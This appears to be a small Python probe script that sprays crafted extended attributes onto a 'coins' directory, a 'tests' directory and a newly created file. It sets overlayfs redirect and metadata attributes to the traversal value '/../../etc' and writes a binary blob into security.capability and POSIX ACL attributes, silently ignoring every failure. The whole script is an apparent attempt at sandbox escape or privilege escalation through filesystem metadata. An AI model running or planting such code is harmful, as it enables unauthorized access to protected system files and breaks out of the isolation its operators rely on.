import os

with open("coins/x.py", "w") as file:
    file.write("x\n")
for place in ("coins", "tests", "coins/x.py"):
    for name in ("opaque", "redirect", "whiteout", "metacopy", "origin", "nlink"):
        for space in ("user.overlay.", "trusted.overlay.", "user.overlay.overlay."):
            try:
                os.setxattr(place, space + name, b"y" if name == "opaque" else b"/../../etc")
            except OSError:
                pass
    for name in ("security.capability", "system.posix_acl_access", "user.note"):
        try:
            os.setxattr(place, name, bytes.fromhex("0100000202000000000000000000000000000000"))
        except OSError:
            pass
